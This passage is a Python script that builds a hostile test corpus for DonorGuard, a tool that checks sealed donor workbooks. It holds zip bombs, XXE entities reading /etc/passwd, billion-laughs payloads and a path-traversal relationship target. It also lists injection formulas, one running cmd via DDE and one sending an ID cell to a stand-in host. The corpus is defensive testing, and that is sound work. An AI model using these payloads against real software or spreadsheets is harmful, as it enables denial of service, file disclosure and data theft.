"""Hostile inputs for DonorGuard: broken, malicious, odd and forged workbooks.

    python tests/hostile/make_corpus.py FOLDER      # write the corpus, print one line per case

Importable: ``build(folder) -> list[Case]``.  Every case lives in its own sub-folder
``FOLDER/cases/<name>/`` so a test can copy it whole; ``Case.path`` is the input to pass to the CLI
(it may be a folder, or not exist at all).  ``Case.expect`` maps each command (check, seal, repair,
export) to the exit codes it may end with:

    2  cannot check: unreadable, not a workbook, not sealed, wrong key, missing columns
    1  blocked: a readable list that is broken (or unfit to seal)
    0  fine (the case is not actually hostile: full-width digits, a Japanese path, ...)

Everything is derived from small synthetic lists (donorguard.synth), so every ID number in the
corpus is fictional; ``ids()`` returns them all for leak scans.  Two keys are written to
``FOLDER/keys``: ``main.key`` (pass it with --key) and ``other.key``.
"""
from __future__ import annotations

import os
import random
import shutil
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))       # tests/, for hostile.harness

from donorguard.cli import ops as files  # noqa: E402
from donorguard.core import manifest as mf  # noqa: E402
from donorguard.core.seal import seals_for  # noqa: E402
from donorguard.store import (
    keys,  # noqa: E402
    rulesets as rules_mod,  # noqa: E402
)
from donorguard.tools import synth  # noqa: E402
from donorguard.xlsx import sheetxml  # noqa: E402
from donorguard.xlsx.read import open_book  # noqa: E402
from donorguard.xlsx.write import write_seals  # noqa: E402
from hostile import harness  # noqa: E402

COMMANDS = ("check", "seal", "repair", "export")
N_PEOPLE = 30
SEED = 606
SHEET_PART = "xl/worksheets/sheet1.xml"
MANIFEST_PART = "xl/worksheets/donorguard-manifest.xml"
ID_COL = "H"            # 個人番号 in synth's layout (title row 1, header row 3, data from row 4)
HEADER_ROW = 3


@dataclass
class Case:
    name: str
    path: Path
    expect: dict                       # command -> frozenset of allowed exit codes
    about: str = ""
    check_kinds: frozenset = frozenset()   # finding kinds `check --json` must report
    stderr_has: str = ""               # regex the one stderr line of `check` must match (ja or en; path removed)
    folder: Path = field(default=None)   # the case's own folder (copy it whole)
    says: dict = field(default_factory=dict)   # command -> regex its stdout + stderr must match (paths removed)


def _codes(check, seal, repair, export) -> dict:
    as_set = lambda v: frozenset(v) if isinstance(v, (set, frozenset, tuple, list)) else frozenset({v})
    return {"check": as_set(check), "seal": as_set(seal), "repair": as_set(repair), "export": as_set(export)}


MANIFEST_SAYS = r"DonorGuard manifest of .* was edited|DonorGuard 管理シートが書き換えられて"
UNREADABLE = _codes(2, 2, 2, 2)                 # nothing can be done with it
UNSEALED_FINE = _codes(2, 0, 2, 2)              # a good list nobody sealed yet
UNSEALED_UNFIT = _codes(2, 1, 2, 2)             # readable, but sealing must refuse it
SEALED_CLEAN = _codes(0, 2, 0, 0)               # sealed and as sealed
SEALED_BLOCKED = _codes(1, 2, 1, 1)             # sealed, broken, repair cannot make it clean
SEALED_REPAIRABLE = _codes(1, 2, 0, 1)          # sealed, broken, repair puts it right
SEALED_UNSENDABLE = _codes(0, 2, 0, 1)          # sealed and as sealed, but export must refuse what it holds
NAME_COL, ADDRESS_COL = "B", "G"                # 氏名 and 住所 in synth's layout
FORMULAS = ['=HYPERLINK("http://example.invalid/?n="&H4,"詳細")', "@SUM(1+1)", "+1+2", "\t=1+1",
            "-2+3+cmd|' /C calc'!A0", "＝1+1"]
NEAR_FORMULAS = ["a=b", "(=1+1)", "1+1番地", "'=1", "メール a@example.invalid", "1-2-3"]
UNENCODABLE = ["𠮷田\u3000花子", "見本県😀見本市", "葛\U000E0100城\u3000一郎", "見本県\u00a0試験町", "Café 見本"]
CHANGED = ["見本県〜見本市", "1−2−3 見本町", "¢ビル"]


def people(seed: int = SEED, n: int = N_PEOPLE, leading_zero_share: float = 0.2):
    return synth.make_people(n, seed=seed, leading_zero_share=leading_zero_share)


def ids() -> set:
    """Every 12-digit ID number any case (or the crash trials) was made from, and those seeded into names."""
    out = set(people()["個人番号"])
    out |= set(people(seed=SEED + 1)["個人番号"])
    out |= set(people(seed=SEED + 2, leading_zero_share=0.0)["個人番号"])
    return out | set(seeded_ids())


def seeded_ids(n: int = 6) -> list:
    """Valid My Numbers that belong to nobody in the lists, to be typed into name and address cells."""
    from stdnum.jp import in_
    rng = random.Random(SEED + 9)
    bodies = ["9" + "".join(str(rng.randrange(10)) for _ in range(10)) for _ in range(n)]
    return [b + in_.calc_check_digit(b) for b in bodies]


def with_seeded_ids(df):
    """Names and addresses with a My Number typed into them: plain, grouped 4-4-4, and in full-width digits."""
    fw = str.maketrans("0123456789", "０１２３４５６７８９")
    df = df.copy()
    for i, v in enumerate(seeded_ids()):
        forms = (v, f"{v[:4]} {v[4:8]} {v[8:]}", v.translate(fw))
        col = "氏名" if i % 2 == 0 else "住所"
        df.loc[i * 4, col] = f"{df.loc[i * 4, col]} {forms[i % 3]}"
    return df


# -- zip surgery ------------------------------------------------------------------------------

def rezip(src, dst, replace: dict | None = None, drop=(), add: dict | None = None, level=6):
    """Copy an .xlsx, replacing / dropping / adding parts (name -> bytes)."""
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zout:
        for info in zin.infolist():
            if info.filename in drop:
                continue
            data = replace.get(info.filename, None)
            zout.writestr(info.filename, zin.read(info.filename) if data is None else data)
        for name, data in add.items():
            zout.writestr(name, data)


def part(path, name) -> bytes:
    with zipfile.ZipFile(path) as z:
        return z.read(name)


def with_dtd(xml: bytes, dtd: bytes, entity_use: bytes | None = None, at: bytes | None = None) -> bytes:
    """Put a DOCTYPE before the root element; optionally use an entity inside the first `at`."""
    body = xml
    decl = b""
    if body.startswith(b"<?xml"):
        end = body.index(b"?>") + 2
        decl, body = body[:end], body[end:].lstrip()
    root = body[1:body.index(b" ")] if b" " in body[:40] else body[1:body.index(b">")]
    doctype = b"<!DOCTYPE " + root + b" [" + dtd + b"]>"
    if entity_use and at:
        body = body.replace(at, at + entity_use, 1)
    return decl + doctype + body


XXE_DTD = b'<!ENTITY xxe SYSTEM "file:///etc/passwd">'
LAUGHS_DTD = (b'<!ENTITY lol "lol">' + b"".join(
    b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)))


def _replace_part(src, dst, name, data: bytes, level=9):
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename == name:
                zout.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=level)
            else:
                zout.writestr(info, zin.read(info.filename))


def set_sheet_cells(src, dst, cells: dict, part_name=SHEET_PART):
    """cells: 'H5' -> raw <c> XML (bytes) or None to remove; rows must exist."""
    xml = part(src, part_name)
    edits = {}
    for ref, new in cells.items():
        letters = "".join(ch for ch in ref if ch.isalpha())
        row = int(ref[len(letters):])
        edits.setdefault(row, {})[sheetxml.col_index(letters)] = new
    rezip(src, dst, replace={part_name: sheetxml.patch_rows(xml, edits)})


def add_row(src, dst, row: int, cells: dict, part_name=SHEET_PART):
    """Append one row (it must lie below every existing row) with raw cells {col letter: <c> XML}."""
    xml = part(src, part_name)
    body = b"".join(cells[k] for k in sorted(cells, key=sheetxml.col_index))
    new = b'<row r="%d">' % row + body + b"</row>"
    xml = xml.replace(b"</sheetData>", new + b"</sheetData>", 1)
    xml = sheetxml.re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:L%d"/>' % row, xml, count=1)
    rezip(src, dst, replace={part_name: xml})


def add_row_at(src, dst, row: int, cells: dict, part_name=SHEET_PART):
    """Insert one row that does not exist yet (between existing rows) with raw cells."""
    xml = part(src, part_name)
    body = b"".join(cells[k] for k in sorted(cells, key=sheetxml.col_index))
    new = b'<row r="%d">' % row + body + b"</row>"
    starts = [m for m in sheetxml.re.finditer(rb'<row r="(\d+)"', xml) if int(m.group(1)) > row]
    at = starts[0].start() if starts else xml.index(b"</sheetData>")
    rezip(src, dst, replace={part_name: xml[:at] + new + xml[at:]})


def inline(ref, text) -> bytes:
    return sheetxml.inline_cell(ref, text)


def add_shared_strings(src, dst, sst_xml: bytes, header_ref: str = "B3"):
    """Add xl/sharedStrings.xml (registered properly) and point one header cell at string 0."""
    ct = part(src, "[Content_Types].xml").replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                     b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    rels = part(src, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>", b'<Relationship Id="rIdSST" Type="http://schemas.openxmlformats.org/officeDocument/'
                             b'2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    xml = part(src, SHEET_PART)
    xml = sheetxml.patch_rows(xml, {int(header_ref[1:]): {sheetxml.col_index(header_ref[0]):
                                                          b'<c r="' + header_ref.encode() + b'" t="s"><v>0</v></c>'}})
    rezip(src, dst, replace={"[Content_Types].xml": ct, "xl/_rels/workbook.xml.rels": rels, SHEET_PART: xml},
          add={"xl/sharedStrings.xml": sst_xml})


def _central_patch(path, fn):
    """Call fn(bytearray, local_header_offsets, central_header_offsets) on the raw zip bytes."""
    data = bytearray(Path(path).read_bytes())
    with zipfile.ZipFile(path) as z:
        locals_ = [i.header_offset for i in z.infolist()]
    eocd = data.rindex(b"PK\x05\x06")
    cd_size, cd_off = struct.unpack("<II", data[eocd + 12:eocd + 20])
    centrals, p = [], cd_off
    while p < cd_off + cd_size:
        centrals.append(p)
        n, m, k = struct.unpack("<HHH", data[p + 28:p + 34])
        p += 46 + n + m + k
    fn(data, locals_, centrals)
    Path(path).write_bytes(bytes(data))


# -- workbooks ---------------------------------------------------------------------------------

def _write(df, path, **kw):
    path.parent.mkdir(parents=True, exist_ok=True)
    synth.write_workbook(df, path, **kw)
    return path


def _seal(path, key_file):
    files.seal_file(path, rules_mod.load(), str(key_file))
    return path


def _modify(path, dst, fn):
    """Load with openpyxl, let fn(ws, wb) change it, save to dst."""
    wb = openpyxl.load_workbook(path)
    fn(wb.worksheets[0], wb)
    wb.save(dst)
    return dst


def _ole(path, streams: dict):
    """A minimal but valid OLE2 compound file (v3, 512-byte sectors) holding the given streams."""
    sector = 512
    mini_cutoff = 4096
    # every stream stored in regular sectors (pad small streams past the mini cutoff)
    names = list(streams)
    blobs = [streams[n] + b"\0" * max(0, mini_cutoff - len(streams[n])) for n in names]
    sizes = [max(len(streams[n]), mini_cutoff) for n in names]
    chains, fat, next_sec = [], [], 0
    body = b""
    for b in blobs:
        k = (len(b) + sector - 1) // sector
        chains.append(next_sec)
        fat += [next_sec + i + 1 for i in range(k - 1)] + [0xFFFFFFFE]
        body += b + b"\0" * (k * sector - len(b))
        next_sec += k
    # directory: root + one entry per stream, 4 entries per sector
    entries = []

    def entry(name, typ, start, size, left=0xFFFFFFFF, right=0xFFFFFFFF, child=0xFFFFFFFF):
        n = (name + "\0").encode("utf-16-le")
        return (n + b"\0" * (64 - len(n)) + struct.pack("<HBB", len(n), typ, 1)
                + struct.pack("<III", left, right, child) + b"\0" * 16 + b"\0" * 4 + b"\0" * 16
                + struct.pack("<IIi", start, size, 0))
    # a right-leaning chain of siblings is a valid (if unbalanced) red-black tree when all are black
    entries.append(entry("Root Entry", 5, 0xFFFFFFFE, 0, child=1 if names else 0xFFFFFFFF))
    for i, (n, start, size) in enumerate(zip(names, chains, sizes)):
        entries.append(entry(n, 2, start, len(streams[n]) if len(streams[n]) >= mini_cutoff else size,
                             right=i + 2 if i + 1 < len(names) else 0xFFFFFFFF))
    while len(entries) % 4:
        entries.append(b"\0" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", *(0xFFFFFFFF,) * 3)
                       + b"\0" * 52)
    dir_start = next_sec
    dir_secs = len(entries) // 4
    fat += [dir_start + i + 1 for i in range(dir_secs - 1)] + [0xFFFFFFFE]
    body += b"".join(entries)
    next_sec += dir_secs
    fat_start = next_sec
    fat += [0xFFFFFFFD]                         # the FAT sector itself
    fat += [0xFFFFFFFF] * (128 - len(fat) % 128 if len(fat) % 128 else 0)
    assert len(fat) == 128, "corpus OLE files stay small"
    body += struct.pack("<128I", *fat)
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<I", 0) + struct.pack("<I", 1) + struct.pack("<I", dir_start)
              + b"\0" * 4 + struct.pack("<I", mini_cutoff) + struct.pack("<I", 0xFFFFFFFE) + struct.pack("<I", 0)
              + struct.pack("<I", 0xFFFFFFFE) + struct.pack("<I", 0) + struct.pack("<I", fat_start)
              + struct.pack("<108I", *([0xFFFFFFFF] * 108)))
    assert len(header) == 512
    Path(path).write_bytes(header + body)


def _encrypted_xlsx(src, dst):
    """A password-protected .xlsx (an OLE file with EncryptionInfo + EncryptedPackage)."""
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
        with open(src, "rb") as f, open(dst, "wb") as out:
            OOXMLFile(f).encrypt("パスワード", out)
        return
    except ImportError:
        pass
    # without msoffcrypto-tool: the same container, with stand-in encrypted streams
    _ole(dst, {"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00" + b"<encryption/>",
               "EncryptedPackage": struct.pack("<Q", 1000) + os.urandom(1024)})


# -- the corpus --------------------------------------------------------------------------------

def build(folder) -> list:
    folder = Path(folder)
    if folder.exists():
        shutil.rmtree(folder)
    (folder / "keys").mkdir(parents=True)
    main_key, other_key = folder / "keys" / "main.key", folder / "keys" / "other.key"
    keys.create(main_key)
    keys.create(other_key)
    with harness.audit_log(folder / "build-audit.jsonl"):
        return _build(folder, main_key, other_key)


def _build(folder: Path, main_key: Path, other_key: Path) -> list:
    work = folder / "work"
    work.mkdir()
    cases: list[Case] = []

    def case(name, filename, expect, about, **kw):
        d = folder / "cases" / name
        d.mkdir(parents=True, exist_ok=True)
        c = Case(name, d / filename, expect, about, folder=d, **kw)
        cases.append(c)
        return c.path

    df = people()
    base = _write(df, work / "base.xlsx")                     # unsealed, good
    sealed = _seal(shutil.copyfile(base, work / "sealed.xlsx"), main_key)
    twin = _seal(shutil.copyfile(base, work / "twin.xlsx"), main_key)          # same list, other nonce
    other = _seal(shutil.copyfile(base, work / "other-key.xlsx"), other_key)
    rules = rules_mod.load()
    book = open_book(sealed, rules)
    rows = book.table.rows.tolist()                           # Excel rows of the data (4..33)
    r0 = rows[0]

    # ---- containers -------------------------------------------------------------------------
    p = case("not_a_zip", "list.xlsx", UNREADABLE, "random bytes named .xlsx")
    p.write_bytes(os.urandom(4096))
    p = case("empty_file", "list.xlsx", UNREADABLE, "a file of zero bytes")
    p.write_bytes(b"")
    p = case("truncated_zip", "list.xlsx", UNREADABLE, "a sealed workbook cut at 60% (copy interrupted)")
    data = sealed.read_bytes()
    p.write_bytes(data[:int(len(data) * 0.6)])
    p = case("truncated_zip_tail", "list.xlsx", UNREADABLE, "a sealed workbook missing its last 30 bytes")
    p.write_bytes(data[:-30])
    p = case("zip_bomb", "list.xlsx", UNREADABLE, "the sheet part is 128 MiB of spaces compressed 1000:1",
             stderr_has="zip bomb|zip 爆弾")
    head = part(sealed, SHEET_PART)
    bomb_xml = (head[:head.index(b"<sheetData>")].split(b"<dimension")[0] + b" " * (128 << 20)
                + b"<sheetData/></worksheet>")
    _replace_part(sealed, p, SHEET_PART, bomb_xml, level=9)
    p = case("zip_bomb_under_ratio", "list.xlsx", UNREADABLE,
             "the real sheet after 64 MiB of spaces and line breaks, compressed about 370:1",
             stderr_has="zip bomb|zip 爆弾")
    rng = random.Random(5)
    pad = b"".join(b" " * rng.randrange(400, 1200) + b"\n" for _ in range(80_000))
    _replace_part(sealed, p, SHEET_PART, head.replace(b"<sheetData>", pad + b"<sheetData>", 1), level=9)
    p = case("zip_bomb_lying_size", "list.xlsx", UNREADABLE,
             "the sheet part says it inflates to 60 KB but inflates to 128 MiB",
             stderr_has="cannot be unpacked|展開できません")
    shutil.copyfile(case_path(cases, "zip_bomb"), p)

    def lie(data, locals_, centrals):
        with zipfile.ZipFile(case_path(cases, "zip_bomb")) as z:
            names = [i.filename for i in z.infolist()]
        i = names.index(SHEET_PART)
        for off, at in ((locals_[i], 22), (centrals[i], 24)):
            data[off + at:off + at + 4] = struct.pack("<I", 60000)
    _central_patch(p, lie)
    p = case("zip_bomb_overlapping", "list.xlsx", UNREADABLE,
             "80 directory entries share one 64 MiB stream (overlapping-file bomb): 5 GiB in all",
             stderr_has="zip bomb|zip 爆弾")
    _overlapping_bomb(sealed, p, copies=80)
    p = case("zip_encrypted_entries", "list.xlsx", UNREADABLE, "zip entries flagged as ZipCrypto-encrypted",
             stderr_has="cannot be unpacked|展開できません")
    shutil.copyfile(sealed, p)

    def encrypt_flag(data, locals_, centrals):
        for off in locals_:
            data[off + 6] |= 1
        for off in centrals:
            data[off + 8] |= 1
    _central_patch(p, encrypt_flag)
    p = case("duplicate_zip_entries", "list.xlsx", UNREADABLE,
             "two xl/worksheets/sheet1.xml entries; readers disagree on which one counts",
             stderr_has="same name|同じ名前の部分")
    shutil.copyfile(sealed, p)
    kosai = synth_kosai(sealed, work / "kosai.xlsx")
    with zipfile.ZipFile(p, "a") as z, zipfile.ZipFile(kosai) as k:
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            z.writestr(SHEET_PART, k.read(SHEET_PART))

    # ---- hostile XML --------------------------------------------------------------------------
    wb_xml, rels_xml, sheet_xml = part(sealed, "xl/workbook.xml"), part(sealed, "xl/_rels/workbook.xml.rels"), \
        part(sealed, SHEET_PART)
    p = case("xxe_workbook", "list.xlsx", UNREADABLE, "external entity (file:///etc/passwd) in xl/workbook.xml")
    rezip(sealed, p, replace={"xl/workbook.xml": with_dtd(wb_xml, XXE_DTD, b"&xxe;", b"<workbookPr")})
    p = case("xxe_workbook_rels", "list.xlsx", UNREADABLE, "external entity in xl/_rels/workbook.xml.rels")
    rezip(sealed, p, replace={"xl/_rels/workbook.xml.rels": with_dtd(rels_xml, XXE_DTD)})
    p = case("xxe_content_types", "list.xlsx", UNREADABLE, "external entity in [Content_Types].xml",
             stderr_has="declares a DTD|DTD の宣言")
    rezip(sealed, p, replace={"[Content_Types].xml": with_dtd(part(sealed, "[Content_Types].xml"), XXE_DTD)})
    p = case("xxe_sheet", "list.xlsx", UNREADABLE, "external entity used in a cell of the sheet part",
             stderr_has="declares a DTD|DTD の宣言")
    rezip(sealed, p, replace={SHEET_PART: with_dtd(
        sheet_xml.replace(b"<t>D000001</t>", b"<t>&xxe;</t>", 1), XXE_DTD)})
    p = case("xxe_manifest", "list.xlsx", UNREADABLE, "external entity in the manifest sheet",
             stderr_has="declares a DTD|DTD の宣言")
    rezip(sealed, p, replace={MANIFEST_PART: with_dtd(part(sealed, MANIFEST_PART), XXE_DTD)})
    p = case("xxe_shared_strings", "list.xlsx", UNREADABLE, "external entity in xl/sharedStrings.xml")
    add_shared_strings(sealed, p, with_dtd(_sst(["氏名&xxe;"]), XXE_DTD))
    p = case("billion_laughs_workbook", "list.xlsx", UNREADABLE, "entity expansion (billion laughs) in workbook.xml")
    rezip(sealed, p, replace={"xl/workbook.xml": with_dtd(wb_xml, LAUGHS_DTD, b"&lol9;", b"<workbookPr")})
    p = case("billion_laughs_sheet", "list.xlsx", UNREADABLE, "billion laughs used in a cell of the sheet part")
    rezip(sealed, p, replace={SHEET_PART: with_dtd(
        sheet_xml.replace(b"<t>D000001</t>", b"<t>&lol9;</t>", 1), LAUGHS_DTD)})
    p = case("billion_laughs_shared_strings", "list.xlsx", UNREADABLE, "billion laughs in xl/sharedStrings.xml",
             stderr_has="declares a DTD|DTD の宣言")
    add_shared_strings(sealed, p, with_dtd(_sst(["氏名&lol9;"]), LAUGHS_DTD))
    p = case("sheet_xml_malformed", "list.xlsx", UNREADABLE, "the sheet part is cut off mid-element")
    rezip(sealed, p, replace={SHEET_PART: sheet_xml[:len(sheet_xml) // 2]})
    p = case("sheet_part_missing", "list.xlsx", UNREADABLE, "the workbook names a sheet part that is not there")
    rezip(sealed, p, drop={SHEET_PART})
    p = case("rels_target_traversal", "list.xlsx", UNREADABLE,
             "the sheet relationship points outside the package (../../../etc/passwd)")
    rezip(sealed, p, replace={"xl/_rels/workbook.xml.rels": rels_xml.replace(
        b'Target="/xl/worksheets/sheet1.xml"', b'Target="../../../../etc/passwd"')})

    # ---- other formats ------------------------------------------------------------------------
    p = case("xls_ole", "list.xlsx", UNREADABLE, "an old binary .xls (OLE2 container) named .xlsx")
    _ole(p, {"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00" + os.urandom(600)})
    p = case("encrypted_xlsx", "list.xlsx", UNREADABLE, "a password-protected .xlsx (OLE2, EncryptedPackage)",
             stderr_has="password-protected|パスワードで保護")
    _encrypted_xlsx(sealed, p)
    p = case("xlsb_like", "list.xlsx", UNREADABLE, "a zip with xl/workbook.bin (binary workbook) named .xlsx")
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                                          b'package/2006/content-types"/>')
        z.writestr("xl/workbook.bin", b"\x83\x01\x00" + os.urandom(200))
        z.writestr("xl/worksheets/sheet1.bin", os.urandom(500))
    p = case("ods", "list.xlsx", UNREADABLE, "an OpenDocument spreadsheet named .xlsx")
    with zipfile.ZipFile(p, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:'
                                  b'tc:opendocument:xmlns:office:1.0"/>')
        z.writestr("META-INF/manifest.xml", b"<manifest/>")
    p = case("csv_renamed", "list.xlsx", UNREADABLE, "a CSV export renamed .xlsx")
    p.write_bytes(df.to_csv(index=False).encode("cp932", errors="replace"))
    p = case("docx_renamed", "list.xlsx", UNREADABLE, "a Word document (zip without a workbook) named .xlsx")
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("word/document.xml", b"<document/>")

    # ---- lists that are readable but odd (unsealed) ---------------------------------------------
    p = case("empty_workbook", "list.xlsx", UNREADABLE, "a new workbook with nothing in it")
    openpyxl.Workbook().save(p)
    p = case("no_header", "list.xlsx", UNREADABLE, "data rows without a header row")
    _write(df, p, title=None)
    _modify(p, p, lambda ws, wb: ws.delete_rows(1))
    p = case("header_too_low", "list.xlsx", UNREADABLE, "header in row 25, below the 20 rows searched")
    _write(df, p)
    _modify(p, p, lambda ws, wb: ws.insert_rows(2, 22))
    p = case("missing_id_column", "list.xlsx", UNREADABLE, "no 個人番号 column")
    _write(df.drop(columns=["個人番号"]), p)
    p = case("duplicate_header", "list.xlsx", _codes(2, {1, 2}, 2, 2),
             "個人番号 twice in the header, the second with other numbers: which one is bound?")
    other_ids = people(seed=SEED + 1)["個人番号"].tolist()
    _write(df, p, free_columns={"個人番号": other_ids})
    p = case("merged_header_cells", "list.xlsx", UNREADABLE, "氏名 merged over the フリガナ header cell")
    _write(df, p)

    def merge(ws, wb):
        ws["C3"] = None
        ws.merge_cells("B3:C3")
    _modify(p, p, merge)
    p = case("merged_title", "list.xlsx", UNSEALED_FINE, "the title merged across A1:K1 (common, fine)")
    _write(df, p)
    _modify(p, p, lambda ws, wb: ws.merge_cells("A1:K1"))
    p = case("header_only", "list.xlsx", _codes(2, {0, 1}, 2, 2), "a header row and no data")
    _write(df.iloc[:0], p)
    p = case("formulas_without_cache", "list.xlsx", UNSEALED_UNFIT,
             "個人番号 cells are formulas never calculated (no cached values)")
    _write(df, p)

    def formulas(ws, wb):
        for r in range(4, 4 + len(df)):
            ws[f"{ID_COL}{r}"] = f'=TEXT({r},"000000000000")'
    _modify(p, p, formulas)
    p = case("error_values", "list.xlsx", UNSEALED_UNFIT, "#N/A in some 個人番号 cells")
    _write(df, p)

    def errors(ws, wb):
        for r in (5, 9, 12):
            ws[f"{ID_COL}{r}"] = "#N/A"
    _modify(p, p, errors)
    p = case("ids_lost_precision", "list.xlsx", UNSEALED_UNFIT,
             "個人番号 stored as numbers rounded to 1.23457E+11 (6 significant digits)")
    _write(df, p)

    def rounded(ws, wb):
        for r in range(4, 4 + len(df)):
            c = ws[f"{ID_COL}{r}"]
            c.value = float(f"{int(c.value):.5e}")
            c.number_format = "0.00E+00"
    _modify(p, p, rounded)
    p = case("ids_scientific_text", "list.xlsx", UNSEALED_UNFIT, "個人番号 typed as the text 1.23457E+11")
    _write(df, p)

    def sci_text(ws, wb):
        for r in range(4, 4 + len(df)):
            c = ws[f"{ID_COL}{r}"]
            c.value = f"{int(c.value):.5E}"
    _modify(p, p, sci_text)
    p = case("ids_as_exact_numbers", "list.xlsx", UNSEALED_FINE,
             "個人番号 stored as numbers with every digit (no leading zeros in this list)")
    _write(people(seed=SEED + 2, leading_zero_share=0.0), p, ids_as_numbers=True)
    p = case("ids_leading_zero_lost", "list.xlsx", UNSEALED_UNFIT,
             "個人番号 stored as numbers, so numbers starting with 0 have 11 digits")
    _write(df, p, ids_as_numbers=True)
    p = case("ids_11_digits", "list.xlsx", UNSEALED_UNFIT, "some 個人番号 have 11 digits (a digit dropped)")
    _write(df.assign(個人番号=[v[:-1] if i % 7 == 3 else v for i, v in enumerate(df["個人番号"])]), p)
    p = case("ids_13_digits", "list.xlsx", UNSEALED_UNFIT, "some 個人番号 have 13 digits (a digit doubled)")
    _write(df.assign(個人番号=[v + v[-1] if i % 7 == 3 else v for i, v in enumerate(df["個人番号"])]), p)
    fw = str.maketrans("0123456789", "０１２３４５６７８９")
    p = case("fullwidth_digits", "list.xlsx", UNSEALED_FINE, "個人番号 typed in full-width digits (fine)")
    _write(df.assign(個人番号=[v.translate(fw) for v in df["個人番号"]]), p)
    p = case("odd_sheet_names", "list.xlsx", UNSEALED_FINE,
             "the list on a sheet named R&D <一覧> 'x' \"y\", behind sheets with odd names")
    _write(df, p, sheet_name="R&D <一覧> 'x' \"y\"")

    def odd_sheets(ws, wb):
        for i, name in enumerate(["空 白　シート", "#REF!", "'quoted'", "_DonorGuardX", "1048576"]):
            wb.create_sheet(name, i)
    _modify(p, p, odd_sheets)
    p = case("sheet_named_like_manifest", "list.xlsx", _codes({1, 2}, {1, 2}, {1, 2}, {1, 2}),
             "the (unsealed) list itself is on a visible sheet named _DonorGuard")
    _write(df, p, sheet_name="_DonorGuard")
    jp = "作業 フォルダ/寄附者 一覧 (令和8年) ｖ２.xlsx"
    p = case("japanese_path_unsealed", jp, UNSEALED_FINE, "Japanese characters and spaces in folder and file name")
    p.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(base, p)
    p = case("japanese_path_sealed", jp, SEALED_CLEAN, "a sealed list under a Japanese path with spaces")
    p.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(sealed, p)
    p = case("a_directory", "list.xlsx", UNREADABLE, "a folder named list.xlsx")
    p.mkdir()
    case("missing_path", "no-such-list.xlsx", UNREADABLE, "a path that does not exist")

    # ---- sealed lists: fine, edited, forged ---------------------------------------------------
    p = case("sealed_clean", "list.xlsx", SEALED_CLEAN, "the sealed synthetic list itself")
    shutil.copyfile(sealed, p)
    p = case("sealed_resaved_by_openpyxl", "list.xlsx", SEALED_CLEAN,
             "the sealed list opened and saved by another program (openpyxl)")
    _modify(sealed, p, lambda ws, wb: None)
    p = case("sealed_fullwidth_digits", "list.xlsx", SEALED_CLEAN,
             "after sealing, every 個人番号 retyped in full-width digits (same numbers: fine)")
    _modify(sealed, p, lambda ws, wb: [setattr(ws[f"{ID_COL}{r}"], "value", str(ws[f"{ID_COL}{r}"].value)
                                               .translate(fw)) for r in rows])
    p = case("sealed_sheet_renamed", "list.xlsx", SEALED_CLEAN, "after sealing, the list's sheet was renamed")
    _modify(sealed, p, lambda ws, wb: setattr(ws, "title", "一覧（確定）"))
    p = case("kosai_sorted", "list.xlsx", SEALED_REPAIRABLE, "after sealing, only the 個人番号 column was sorted")
    shutil.copyfile(kosai, p)
    p = case("sealed_formula_without_cache", "list.xlsx", SEALED_BLOCKED,
             "after sealing, a 個人番号 cell became a formula with no cached value")
    _modify(sealed, p, lambda ws, wb: setattr(ws[f"{ID_COL}{r0 + 2}"], "value", '=TEXT(1,"000000000000")'))
    p = case("sealed_error_value", "list.xlsx", SEALED_BLOCKED, "after sealing, a 個人番号 cell became #N/A")
    _modify(sealed, p, lambda ws, wb: setattr(ws[f"{ID_COL}{r0 + 3}"], "value", "#N/A"))
    p = case("sealed_lost_precision", "list.xlsx", SEALED_BLOCKED,
             "after sealing, 個人番号 converted to numbers and rounded (1.23457E+11)")

    def rounded_sealed(ws, wb):
        for r in rows:
            c = ws[f"{ID_COL}{r}"]
            c.value = float(f"{int(c.value):.5e}")
            c.number_format = "0.00E+00"
    _modify(sealed, p, rounded_sealed)
    seal_letter = sheetxml.col_letter(book.seal_col)
    seal_text = book.table.seals.tolist()

    def seal_cell(r, text):
        return inline(f"{seal_letter}{r}", text)
    p = case("seal_cell_edited", "list.xlsx", SEALED_BLOCKED, "one seal cell edited by hand (one character)",
             check_kinds=frozenset({"tampered"}))
    s = seal_text[4]
    flipped = s[:12] + ("A" if s[12] != "A" else "B") + s[13:]
    set_sheet_cells(sealed, p, {f"{seal_letter}{rows[4]}": seal_cell(rows[4], flipped)})
    p = case("seal_cell_garbage", "list.xlsx", SEALED_BLOCKED, "one seal cell overwritten with other text",
             check_kinds=frozenset({"tampered"}))
    set_sheet_cells(sealed, p, {f"{seal_letter}{rows[6]}": seal_cell(rows[6], "OK")})
    p = case("seal_copied_between_rows", "list.xlsx", SEALED_BLOCKED,
